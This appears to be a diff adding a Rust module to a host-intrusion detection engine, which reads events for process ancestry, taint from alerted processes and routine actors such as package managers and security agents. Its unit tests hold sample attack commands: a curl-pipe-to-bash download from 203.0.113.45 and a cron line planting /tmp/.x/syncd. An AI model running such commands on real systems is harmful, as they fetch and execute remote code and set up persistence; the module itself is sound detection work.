@@ -1,0 +1,877 @@
+//! What the event rules need to know about one event and the processes behind it: the
+//! command line an execution event runs, the event's time in milliseconds, whether a person
+//! at a terminal is behind it, and who the actor is by behaviour and location — a packaged
+//! program, a security agent in its install directory, a package manager, configuration
+//! management, a build toolchain, a web server, a service account.
+//!
+//! Routine-ness is never decided by a name alone: a name counts only together with an
+//! executable where packages, agents or toolchains install (a binary called `sa1` or `dpkg`
+//! run from /tmp is not routine). Process ancestry comes from the event itself (Defender's
+//! initiating process and its parent) and from [`Lineage`], a bounded table of the processes
+//! earlier events showed (audit gives only a parent pid).
+
+use super::{EvidenceEvent, MAX_EVIDENCE};
+use crate::context::canonical;
+use crate::rules::common::unusual_location;
+use dossier_events::{Event, Format};
+use std::collections::{HashMap, VecDeque};
+use std::hash::Hash;
+
+/// Longest value kept in an evidence field (command lines and scripts can be huge).
+const MAX_FIELD: usize = 400;
+
+/// A map keeping at most `cap` entries, forgetting the least recently inserted: the rules'
+/// per-host, per-address and per-process state is bounded whatever the input.
+pub(crate) struct Bounded<K, V> {
+    cap: usize,
+    stamp: u64,
+    map: HashMap<K, (V, u64)>,
+    order: VecDeque<(K, u64)>,
+}
+
+impl<K: Hash + Eq + Clone, V> Bounded<K, V> {
+    pub fn new(cap: usize) -> Self {
+        Bounded {
+            cap: cap.max(1),
+            stamp: 0,
+            map: HashMap::new(),
+            order: VecDeque::new(),
+        }
+    }
+
+    pub fn get<Q>(&self, k: &Q) -> Option<&V>
+    where
+        K: std::borrow::Borrow<Q>,
+        Q: Hash + Eq + ?Sized,
+    {
+        self.map.get(k).map(|(v, _)| v)
+    }
+
+    /// The entry for `k`, made with `make` (and refreshed as the newest) when missing.
+    pub fn entry(&mut self, k: K, make: impl FnOnce() -> V) -> &mut V {
+        if !self.map.contains_key(&k) {
+            self.stamp += 1;
+            self.order.push_back((k.clone(), self.stamp));
+            self.map.insert(k.clone(), (make(), self.stamp));
+            self.evict();
+        }
+        &mut self.map.get_mut(&k).expect("just inserted").0
+    }
+
+    /// Inserts or replaces, as the newest entry.
+    pub fn insert(&mut self, k: K, v: V) {
+        self.stamp += 1;
+        self.order.push_back((k.clone(), self.stamp));
+        self.map.insert(k, (v, self.stamp));
+        self.evict();
+        if self.order.len() > 2 * self.cap {
+            // Replaced entries left stale stamps behind: drop them.
+            let map = &self.map;
+            self.order
+                .retain(|(k, s)| map.get(k).is_some_and(|(_, cur)| cur == s));
+        }
+    }
+
+    fn evict(&mut self) {
+        while self.map.len() > self.cap {
+            let Some((k, s)) = self.order.pop_front() else {
+                break;
+            };
+            if self.map.get(&k).is_some_and(|(_, cur)| *cur == s) {
+                self.map.remove(&k);
+            }
+        }
+    }
+}
+
+/// A process as far as the events tell.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub(crate) struct ProcInfo {
+    pub pid: Option<u32>,
+    pub ppid: Option<u32>,
+    pub name: Option<String>,
+    pub exe: Option<String>,
+    pub cmd: Option<String>,
+    pub user: Option<String>,
+}
+
+impl ProcInfo {
+    fn from(p: &dossier_events::Process) -> ProcInfo {
+        ProcInfo {
+            pid: p.pid,
+            ppid: p.ppid,
+            name: p.name.clone(),
+            exe: p.exe.clone(),
+            cmd: p.command_line.clone(),
+            user: p.user.clone(),
+        }
+    }
+
+    /// Fills what `self` lacks from `other`.
+    fn merge(&mut self, other: ProcInfo) {
+        self.ppid = self.ppid.or(other.ppid);
+        self.name = self.name.take().or(other.name);
+        self.exe = self.exe.take().or(other.exe);
+        self.cmd = self.cmd.take().or(other.cmd);
+        self.user = self.user.take().or(other.user);
+    }
+
+    /// The program's file name (from the executable, else the name).
+    pub fn base(&self) -> &str {
+        self.exe
+            .as_deref()
+            .map(base)
+            .or(self.name.as_deref())
+            .unwrap_or("")
+    }
+
+    /// `bash (pid 4187)`, `/usr/bin/bash (pid 4187)`.
+    pub fn label(&self) -> String {
+        let what = self
+            .exe
+            .as_deref()
+            .or(self.name.as_deref())
+            .unwrap_or("unknown process");
+        match self.pid {
+            Some(p) => format!("{what} (pid {p})"),
+            None => what.to_string(),
+        }
+    }
+}
+
+/// How many processes [`Lineage`] remembers: a busy host starts a few hundred processes a
+/// minute, and ancestry is only looked up a few levels up within seconds to minutes.
+const LINEAGE_CAP: usize = 16_384;
+
+/// Processes seen in earlier events, by host (its number, see [`super::EventAnalyzer`]) and
+/// pid (bounded; a reused pid overwrites).
+pub(crate) struct Lineage {
+    procs: Bounded<(u32, u32), ProcInfo>,
+}
+
+impl Default for Lineage {
+    fn default() -> Self {
+        Lineage {
+            procs: Bounded::new(LINEAGE_CAP),
+        }
+    }
+}
+
+impl Lineage {
+    /// Remembers the processes `ev` shows.
+    pub fn record(&mut self, host: u32, ev: &Event) {
+        for p in [&ev.process, &ev.parent].into_iter().flatten() {
+            let Some(pid) = p.pid else { continue };
+            let info = ProcInfo::from(p);
+            let key = (host, pid);
+            match self.procs.get(&key) {
+                // The same process again (same executable, or one side does not say):
+                // complete what is known.
+                Some(old) if old.exe.is_none() || info.exe.is_none() || old.exe == info.exe => {
+                    let mut merged = info;
+                    merged.merge(old.clone());
+                    self.procs.insert(key, merged);
+                }
+                _ => self.procs.insert(key, info),
+            }
+        }
+    }
+
+    pub fn get(&self, host: u32, pid: u32) -> Option<&ProcInfo> {
+        self.procs.get(&(host, pid))
+    }
+}
+
+/// How many tainted processes are remembered: an intrusion's process trees are small.
+const TAINT_CAP: usize = 4096;
+
+/// Processes that belong to an intrusion: a process whose event raised a High or Critical
+/// alert (and, for an execution, the shell that started it: the shell the intruder types
+/// in), and what those processes start. Whatever descends from them is judged as the
+/// intruder's doing: a cron file written by a root shell obtained through a web server's
+/// sudo, or a unit written from the shell that ran a downloaded implant, is High even when
+/// the written content is not in the record.
+pub(crate) struct Taint {
+    pids: Bounded<(u32, u32), String>,
+}
+
+impl Default for Taint {
+    fn default() -> Self {
+        Taint {
+            pids: Bounded::new(TAINT_CAP),
+        }
+    }
+}
+
+impl Taint {
+    /// The reason the acting process or one of its known ancestors is tainted.
+    pub fn of(&self, host: u32, v: &View) -> Option<String> {
+        v.lineage()
+            .filter_map(|p| p.pid)
+            .find_map(|pid| self.pids.get(&(host, pid)).cloned())
+    }
+
+    pub fn mark(&mut self, host: u32, pid: u32, why: String) {
+        self.pids.insert((host, pid), why);
+    }
+}
+
+/// One event as the rules read it, with its host key and resolved ancestry.
+pub(crate) struct View<'a> {
+    pub ev: &'a Event,
+    pub hk: &'a str,
+    /// The acting process (for an execution event, the program started).
+    pub proc: Option<ProcInfo>,
+    /// Its parent, then grandparent... (at most four levels).
+    pub ancestors: Vec<ProcInfo>,
+    /// Why the acting process is the intruder's, when it or an ancestor is: it descends from
+    /// a process that raised a High or Critical alert (see [`Taint`]).
+    pub taint: Option<String>,
+    ms: Option<i64>,
+}
+
+impl<'a> View<'a> {
+    pub fn new(ev: &'a Event, hk: &'a str, host: u32, lineage: &Lineage) -> View<'a> {
+        let proc = ev.process.as_ref().map(ProcInfo::from);
+        let mut ancestors = Vec::new();
+        let mut next = match &ev.parent {
+            Some(p) => {
+                let mut info = ProcInfo::from(p);
+                if let Some(known) = p.pid.and_then(|pid| lineage.get(host, pid)) {
+                    info.merge(known.clone());
+                }
+                ancestors.push(info.clone());
+                info.ppid
+            }
+            None => proc.as_ref().and_then(|p| p.ppid),
+        };
+        // Defender names the initiating process's parent by file name only.
+        if ev.parent.as_ref().is_some_and(|p| p.ppid.is_none())
+            && let Some(n) = ev.fields.get("InitiatingProcessParentFileName")
+            && ev.source.table.as_deref() == Some("DeviceProcessEvents")
+        {
+            ancestors.push(ProcInfo {
+                name: Some(base(n).to_string()),
+                exe: n.starts_with('/').then(|| n.clone()),
+                ..ProcInfo::default()
+            });
+            next = None;
+        }
+        while let Some(pid) = next {
+            if ancestors.len() >= 4 || Some(pid) == proc.as_ref().and_then(|p| p.pid) {
+                break;
+            }
+            match lineage.get(host, pid) {
+                Some(p) if !ancestors.iter().any(|a| a.pid == Some(pid)) => {
+                    ancestors.push(p.clone());
+                    next = p.ppid;
+                }
+                _ => {
+                    if !ancestors.iter().any(|a| a.pid == Some(pid)) {
+                        ancestors.push(ProcInfo {
+                            pid: Some(pid),
+                            ..ProcInfo::default()
+                        });
+                    }
+                    break;
+                }
+            }
+        }
+        View {
+            ev,
+            hk,
+            proc,
+            ancestors,
+            taint: None,
+            ms: millis(&ev.time),
+        }
+    }
+
+    /// The event's time in milliseconds since the epoch (None when unreadable).
+    pub fn ms(&self) -> Option<i64> {
+        self.ms
+    }
+
+    pub fn action(&self) -> &str {
+        &self.ev.action
+    }
+
+    /// Whether the event records a program being started.
+    pub fn is_exec(&self) -> bool {
+        matches!(self.action(), "execve" | "execveat" | "ProcessCreated")
+    }
+
+    /// Whether the event records a command run through sudo (journal or audit `USER_CMD`).
+    pub fn is_sudo_command(&self) -> bool {
+        matches!(self.action(), "sudo" | "USER_CMD")
+            && self.ev.outcome.as_deref() != Some("failure")
+    }
+
+    /// Script text recorded by the sensor (Defender `ScriptContent`).
+    pub fn script(&self) -> Option<&'a str> {
+        (self.action() == "ScriptContent")
+            .then_some(self.ev.script.as_deref())
+            .flatten()
+    }
+
+    /// The command line of what this event runs: an execution, a sudo command, or the
+    /// interpreter call of a recorded script.
+    pub fn run_command(&self) -> Option<&'a str> {
+        if self.is_exec() || self.is_sudo_command() || self.action() == "ScriptContent" {
+            self.ev.process.as_ref()?.command_line.as_deref()
+        } else {
+            None
+        }
+    }
+
+    /// The acting process's command line, whatever the event.
+    pub fn actor_command(&self) -> Option<&'a str> {
+        self.ev.process.as_ref()?.command_line.as_deref()
+    }
+
+    pub fn exe(&self) -> Option<&str> {
+        self.proc.as_ref()?.exe.as_deref()
+    }
+
+    /// The account the acting process runs as (else the event's account).
+    pub fn user(&self) -> Option<&'a str> {
+        let proc_user = self.ev.process.as_ref().and_then(|p| p.user.as_deref());
+        match (proc_user, self.ev.user.as_deref()) {
+            // A bare uid says less than the event's account name (sudo's invoking user).
+            (Some(p), Some(e)) if p.starts_with("uid=") && !e.starts_with("uid=") => Some(e),
+            (p, e) => p.or(e),
+        }
+    }
+
+    /// The event's file, made absolute with the audit record's working directory.
+    pub fn file(&self) -> Option<String> {
+        let f = self.ev.file.as_deref()?;
+        if f.starts_with('/') {
+            return Some(f.to_string());
+        }
+        let cwd = self.ev.fields.get("cwd")?;
+        Some(join(cwd, f))
+    }
+
+    /// Whether a person at a terminal is behind the event: an audit or sudo record with a
+    /// terminal, or a process whose ancestry reaches sshd or login.
+    pub fn interactive(&self) -> bool {
+        let tty = |k: &str| {
+            self.ev.fields.get(k).is_some_and(|t| {
+                let t = t.trim_start_matches("/dev/");
+                t.starts_with("pts") || t.starts_with("tty")
+            })
+        };
+        if tty("tty") || tty("terminal") {
+            return true;
+        }
+        if self
+            .ev
+            .fields
+            .get("change")
+            .is_some_and(|c| c.contains("from=/dev/pts"))
+        {
+            return true;
+        }
+        self.ancestors.iter().any(|a| {
+            matches!(
+                a.base(),
+                "sshd" | "sshd-session" | "login" | "tmux: server" | "tmux" | "screen"
+            )
+        })
+    }
+
+    /// The acting process and its ancestors, nearest first.
+    pub fn lineage(&self) -> impl Iterator<Item = &ProcInfo> {
+        self.proc.iter().chain(self.ancestors.iter())
+    }
+
+    /// The security or monitoring agent behind the event, judged by where its programs and
+    /// scripts live (the acting process or an ancestor).
+    pub fn agent(&self) -> Option<&'static str> {
+        self.lineage().find_map(agent_of)
+    }
+
+    /// Whether a package manager (or a package's maintainer script) is behind the event.
+    pub fn package_manager(&self) -> bool {
+        self.lineage().any(is_package_manager)
+    }
+
+    /// Configuration management behind the event (`ansible`, `puppet`...).
+    pub fn config_management(&self) -> Option<&'static str> {
+        self.lineage().find_map(config_management)
+    }
+
+    /// Whether a build toolchain (at a place toolchains install) started the acting process.
+    pub fn built_by_toolchain(&self) -> bool {
+        self.ancestors.iter().take(3).any(is_build_tool)
+    }
+
+    /// Whether a web server or an account web servers run as is behind the event.
+    pub fn web_context(&self) -> bool {
+        self.user().is_some_and(service_account)
+            || self
+                .lineage()
+                .any(|p| is_web_server(p.base()) || p.user.as_deref().is_some_and(service_account))
+    }
+
+    /// A short name for the parent: `php-fpm8.2 (pid 880)`.
+    pub fn parent_label(&self) -> Option<String> {
+        self.ancestors.first().map(ProcInfo::label)
+    }
+
+    /// The evidence entry for this event, with `extra` fields first.
+    pub fn evidence(&self, extra: &[(String, String)]) -> EvidenceEvent {
+        let ev = self.ev;
+        let mut fields: Vec<(String, String)> =
+            extra.iter().map(|(k, v)| (k.clone(), clip(v))).collect();
+        let mut add = |k: &str, v: Option<String>| {
+            if let Some(v) = v.filter(|v| !v.is_empty())
+                && !fields.iter().any(|(fk, _)| fk == k)
+            {
+                fields.push((k.to_string(), clip(&v)));
+            }
+        };
+        if let Some(p) = &self.proc {
+            add("Process", Some(p.label()));
+            add("Command", p.cmd.clone());
+        }
+        add("Parent", self.parent_label());
+        add("Account", self.user().map(str::to_string));
+        if let Some(peer) = &ev.peer {
+            add(
+                "Remote",
+                peer.addr.as_ref().map(|a| match peer.port {
+                    Some(p) => format!("{a}:{p}"),
+                    None => a.clone(),
+                }),
+            );
+        }
+        add("File", self.file());
+        add(
+            "SHA256",
+            ev.file_sha256
+                .clone()
+                .or_else(|| ev.process.as_ref().and_then(|p| p.sha256.clone())),
+        );
+        add("Outcome", ev.outcome.clone());
+        EvidenceEvent {
+            time: ev.time.clone(),
+            host: ev.host.clone(),
+            action: ev.action.clone(),
+            source: source_label(ev),
+            fields,
+            origin: ev.origin.clone(),
+        }
+    }
+}
+
+/// `defender-csv DeviceEvents`, `audit SYSCALL`, `journal sshd`.
+pub(crate) fn source_label(ev: &Event) -> String {
+    let f = match ev.source.format {
+        Format::DefenderCsv => "defender-csv",
+        Format::DefenderJson => "defender-json",
+        Format::Audit => "audit",
+        Format::Journal => "journal",
+    };
+    match &ev.source.table {
+        Some(t) => format!("{f} {t}"),
+        None => f.to_string(),
+    }
+}
+
+/// Milliseconds since the epoch of an RFC 3339 time.
+pub(crate) fn millis(t: &str) -> Option<i64> {
+    dossier_plugin_api::time::Timestamp::parse(t).map(|ts| ts.datetime().timestamp_millis())
+}
+
+/// A value cut to [`MAX_FIELD`] characters (on a character boundary), `…` marking the cut.
+pub(crate) fn clip(s: &str) -> String {
+    if s.len() <= MAX_FIELD {
+        return s.to_string();
+    }
+    let mut end = MAX_FIELD;
+    while !s.is_char_boundary(end) {
+        end -= 1;
+    }
+    format!("{}…", &s[..end])
+}
+
+pub(crate) fn base(path: &str) -> &str {
+    path.rsplit('/').next().unwrap_or(path)
+}
+
+/// `dir` joined with a relative `path` (`.` and `..` resolved).
+pub(crate) fn join(dir: &str, path: &str) -> String {
+    let mut parts: Vec<&str> = dir.split('/').filter(|p| !p.is_empty()).collect();
+    for c in path.split('/') {
+        match c {
+            "" | "." => {}
+            ".." => {
+                parts.pop();
+            }
+            c => parts.push(c),
+        }
+    }
+    format!("/{}", parts.join("/"))
+}
+
+/// Whether a path is where distribution packages install: under /usr (not /usr/local), or
+/// /bin, /sbin, /lib (merged into /usr).
+pub(crate) fn packaged(path: &str) -> bool {
+    let c = canonical(path);
+    c.starts_with("/usr/") && !c.starts_with("/usr/local/")
+}
+
+/// Install directories of security and monitoring agents, and the agent's name.
+const AGENT_DIRS: &[(&str, &str)] = &[
+    ("/opt/microsoft/mdatp/", "Microsoft Defender for Endpoint"),
+    (
+        "/var/opt/microsoft/mdatp/",
+        "Microsoft Defender for Endpoint",
+    ),
+    ("/opt/microsoft/", "Microsoft monitoring agent"),
+    ("/var/ossec/", "Wazuh agent"),
+    ("/usr/share/wazuh-indexer/", "Wazuh indexer"),
+    ("/usr/share/wazuh-manager/", "Wazuh manager"),
+    ("/opt/osquery/", "osquery"),
+    ("/opt/CrowdStrike/", "CrowdStrike Falcon"),
+    ("/opt/sentinelone/", "SentinelOne"),
+    ("/opt/qualys/", "Qualys Cloud Agent"),
+    ("/usr/local/qualys/", "Qualys Cloud Agent"),
+    ("/opt/nessus_agent/", "Tenable Nessus Agent"),
+    ("/opt/rapid7/", "Rapid7 Insight Agent"),
+    ("/opt/Tanium/", "Tanium Client"),
+    ("/opt/datadog-agent/", "Datadog Agent"),
+    ("/opt/splunkforwarder/", "Splunk Universal Forwarder"),
+    ("/opt/Elastic/", "Elastic Agent"),
+    ("/opt/traps/", "Cortex XDR"),
+    ("/opt/carbonblack/", "Carbon Black"),
+];
+
+/// The agent whose install directory holds `path`.
+pub(crate) fn agent_dir(path: &str) -> Option<&'static str> {
+    AGENT_DIRS
+        .iter()
+        .find(|(d, _)| path.starts_with(d))
+        .map(|(_, n)| *n)
+}
+
+/// The script an interpreter runs (`python3 /opt/x/y.py --flag` → `/opt/x/y.py`), or a
+/// program's own path when the command starts with one.
+pub(crate) fn script_path(cmd: &str) -> Option<&str> {
+    let mut words = cmd
+        .split_whitespace()
+        .map(|w| w.trim_matches(|c| c == '"' || c == '\''));
+    let first = words.next()?;
+    if crate::rules::common::is_interpreter(base(first)) {
+        words
+            .find(|w| !w.starts_with('-'))
+            .filter(|w| w.starts_with('/'))
+    } else {
+        first.starts_with('/').then_some(first)
+    }
+}
+
+/// The agent a process belongs to: its executable, or the script it runs (with an
+/// interpreter from a packaged place), in an agent's install directory.
+fn agent_of(p: &ProcInfo) -> Option<&'static str> {
+    if let Some(a) = p.exe.as_deref().and_then(agent_dir) {
+        return Some(a);
+    }
+    let exe_ok = p.exe.as_deref().is_none_or(packaged);
+    p.cmd
+        .as_deref()
+        .and_then(script_path)
+        .filter(|_| exe_ok)
+        .and_then(agent_dir)
+}
+
+const PACKAGE_MANAGERS: &[&str] = &[
+    "dpkg",
+    "apt",
+    "apt-get",
+    "aptitude",
+    "unattended-upgrade",
+    "unattended-upgr",
+    "rpm",
+    "yum",
+    "dnf",
+    "dnf-automatic",
+    "microdnf",
+    "zypper",
+    "packagekitd",
+    "snapd",
+    "dpkg-preconfigure",
+    "debconf",
+];
+
+/// A package manager at a packaged path, or a package's maintainer script (Debian's
+/// /var/lib/dpkg/info, rpm's scriptlets).
+fn is_package_manager(p: &ProcInfo) -> bool {
+    let packaged_exe = p.exe.as_deref().is_some_and(packaged);
+    if packaged_exe && PACKAGE_MANAGERS.contains(&p.base()) {
+        return true;
+    }
+    p.cmd
+        .as_deref()
+        .is_some_and(|c| c.contains("/var/lib/dpkg/info/") || c.contains("/var/tmp/rpm-tmp."))
+        && p.exe.as_deref().is_none_or(packaged)
+}
+
+/// Configuration management: ansible's module payloads (AnsiballZ in ~/.ansible/tmp, run by
+/// a packaged interpreter), puppet, chef, salt and cloud-init from their install places.
+fn config_management(p: &ProcInfo) -> Option<&'static str> {
+    let exe = p.exe.as_deref().unwrap_or("");
+    if let Some(c) = p.cmd.as_deref()
+        && c.contains("/.ansible/tmp/ansible-tmp-")
+        && c.contains("AnsiballZ_")
+        && (exe.is_empty() || packaged(exe))
+    {
+        return Some("ansible");
+    }
+    for (d, n) in [
+        ("/opt/puppetlabs/", "puppet"),
+        ("/opt/chef/", "chef"),
+        ("/opt/cinc/", "chef"),
+        ("/opt/saltstack/", "salt"),
+    ] {
+        if exe.starts_with(d) {
+            return Some(n);
+        }
+    }
+    if packaged(exe) {
+        match p.base() {
+            "salt-minion" | "salt-call" => return Some("salt"),
+            "cloud-init" => return Some("cloud-init"),
+            "google_guest_agent" | "amazon-ssm-agent" => return Some("the cloud guest agent"),
+            _ => {}
+        }
+        // Python services run as `python3 /usr/sbin/waagent ...`, `python3 /usr/bin/cloud-init`.
+        if let Some(s) = p
+            .cmd
+            .as_deref()
+            .and_then(script_path)
+            .filter(|s| packaged(s))
+        {
+            match base(s) {
+                "waagent" => return Some("the Azure guest agent"),
+                "cloud-init" => return Some("cloud-init"),
+                "salt-minion" | "salt-call" => return Some("salt"),
+                _ => {}
+            }
+        }
+    }
+    None
+}
+
+const BUILD_TOOLS: &[&str] = &[
+    "make",
+    "gmake",
+    "cargo",
+    "rustc",
+    "cc",
+    "gcc",
+    "g++",
+    "c++",
+    "clang",
+    "clang++",
+    "ld",
+    "ld.lld",
+    "ld.gold",
+    "ld.bfd",
+    "collect2",
+    "cc1",
+    "cc1plus",
+    "go",
+    "ninja",
+    "cmake",
+    "ctest",
+    "meson",
+    "bazel",
+    "mvn",
+    "gradle",
+    "javac",
+    "npm",
+    "yarn",
+    "pytest",
+    "tox",
+    "gitlab-runner",
+    "Runner.Worker",
+];
+
+/// A build tool whose executable is where toolchains install (not an unusual place).
+pub(crate) fn is_build_tool(p: &ProcInfo) -> bool {
+    // The name as started (`cc`) or the resolved executable (`x86_64-linux-gnu-gcc-12`).
+    (BUILD_TOOLS.contains(&p.base()) || p.name.as_deref().is_some_and(|n| BUILD_TOOLS.contains(&n)))
+        && p.exe
+            .as_deref()
+            .is_some_and(|e| e.starts_with('/') && unusual_location(e).is_none())
+}
+
+/// Programs that serve web requests: what they start is what a web visitor made them start.
+pub(crate) fn is_web_server(name: &str) -> bool {
+    name.starts_with("php-fpm")
+        || name.starts_with("php-cgi")
+        || matches!(
+            name,
+            "httpd" | "apache2" | "nginx" | "lighttpd" | "caddy" | "uwsgi" | "gunicorn"
+        )
+}
+
+/// Accounts services run as: no person logs on with them.
+pub(crate) fn service_account(user: &str) -> bool {
+    matches!(
+        user,
+        "www-data" | "apache" | "nginx" | "http" | "wwwrun" | "nobody" | "daemon" | "tomcat"
+    )
+}
+
+/// Whether an address is loopback, private (RFC 1918, ULA, CGNAT) or link-local.
+pub(crate) fn private_addr(addr: &str) -> bool {
+    match addr.parse::<std::net::IpAddr>() {
+        Ok(std::net::IpAddr::V4(a)) => {
+            a.is_loopback()
+                || a.is_private()
+                || a.is_link_local()
+                || (a.octets()[0] == 100 && (a.octets()[1] & 0xc0) == 64)
+        }
+        Ok(std::net::IpAddr::V6(a)) => {
+            a.is_loopback()
+                || (a.segments()[0] & 0xfe00) == 0xfc00
+                || (a.segments()[0] & 0xffc0) == 0xfe80
+        }
+        Err(_) => false,
+    }
+}
+
+pub(crate) fn loopback(addr: &str) -> bool {
+    addr.parse::<std::net::IpAddr>()
+        .is_ok_and(|a| a.is_loopback())
+        || addr == "localhost"
+}
+
+/// Hosts named by URLs in a command (`http://203.0.113.45/x.sh` → `203.0.113.45`).
+pub(crate) fn url_hosts(cmd: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    for scheme in ["http://", "https://", "ftp://", "tftp://"] {
+        let mut rest = cmd;
+        while let Some(i) = rest.find(scheme) {
+            let after = &rest[i + scheme.len()..];
+            let end = after
+                .find(['/', ' ', '"', '\'', '?', '|', ';', ')'])
+                .unwrap_or(after.len());
+            let hostport = &after[..end];
+            let host = hostport
+                .rsplit_once('@')
+                .map_or(hostport, |(_, h)| h)
+                .split(':')
+                .next()
+                .unwrap_or("");
+            if !host.is_empty() && !out.iter().any(|h| h == host) {
+                out.push(host.to_string());
+            }
+            rest = &after[end..];
+        }
+    }
+    out
+}
+
+/// The first URL in a command.
+pub(crate) fn first_url(cmd: &str) -> Option<&str> {
+    let i = ["http://", "https://", "ftp://", "tftp://"]
+        .iter()
+        .filter_map(|s| cmd.find(s))
+        .min()?;
+    let rest = &cmd[i..];
+    let end = rest
+        .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '|' | ';' | ')'))
+        .unwrap_or(rest.len());
+    Some(&rest[..end])
+}
+
+/// Absolute paths in unusual places that a command names (programs, files it writes, lines
+/// it writes into a file), the `skip` path excepted.
+pub(crate) fn unusual_paths(cmd: &str, skip: Option<&str>) -> Vec<(String, String)> {
+    let mut out: Vec<(String, String)> = Vec::new();
+    for w in cmd.split(|c: char| c.is_whitespace() || "'\";|&()`<>=,\\".contains(c)) {
+        let w = w.trim_end_matches(['.', ':']);
+        if !w.starts_with('/') || w.len() < 3 || Some(w) == skip || w.starts_with("/dev/null") {
+            continue;
+        }
+        if matches!(w, "/dev/tcp" | "/dev/udp") || w.starts_with("/dev/tcp/") {
+            continue;
+        }
+        if let Some(why) = unusual_location(w)
+            && !out.iter().any(|(p, _)| p == w)
+        {
+            out.push((w.to_string(), why));
+        }
+        if out.len() >= MAX_EVIDENCE {
+            break;
+        }
+    }
+    out
+}
+
+/// Whether `text` contains any of `needles`: a cheap test before a rule's parsing, with the
+/// words the parsing can possibly act on.
+pub(crate) fn mentions(text: &str, needles: &[&str]) -> bool {
+    needles.iter().any(|n| text.contains(n))
+}
+
+/// Whether an address is a literal IP (not a DNS name).
+pub(crate) fn is_ip(s: &str) -> bool {
+    s.parse::<std::net::IpAddr>().is_ok()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn bounded_map_forgets_the_oldest() {
+        let mut m = Bounded::new(2);
+        m.insert("a", 1);
+        m.insert("b", 2);
+        m.insert("a", 3); // refreshed: b is now the oldest
+        m.insert("c", 4);
+        assert_eq!(m.get(&"a"), Some(&3));
+        assert_eq!(m.get(&"b"), None);
+        assert_eq!(m.get(&"c"), Some(&4));
+        for i in 0..100 {
+            m.insert("x", i);
+        }
+        assert!(m.order.len() <= 4);
+    }
+
+    #[test]
+    fn urls_paths_and_places() {
+        let c = "curl -fsSL http://203.0.113.45:8080/x.sh | bash";
+        assert_eq!(url_hosts(c), ["203.0.113.45"]);
+        assert_eq!(first_url(c), Some("http://203.0.113.45:8080/x.sh"));
+        assert_eq!(
+            unusual_paths(
+                "echo '* * * * * root /tmp/.x/syncd' > /etc/cron.d/syncd",
+                None
+            )[0]
+            .0,
+            "/tmp/.x/syncd"
+        );
+        assert!(unusual_paths("cmd >/dev/null 2>&1", None).is_empty());
+        assert!(packaged("/bin/python3") && !packaged("/usr/local/bin/x") && !packaged("/tmp/sa1"));
+        assert_eq!(
+            script_path("/bin/python3 /opt/microsoft/mdatp/conf/scripts/x.py --a"),
+            Some("/opt/microsoft/mdatp/conf/scripts/x.py")
+        );
+        assert_eq!(
+            join("/home/alice", ".bash_history"),
+            "/home/alice/.bash_history"
+        );
+        assert!(
+            private_addr("10.0.5.10")
+                && private_addr("100.64.0.1")
+                && !private_addr("203.0.113.45")
+        );
+    }
+}
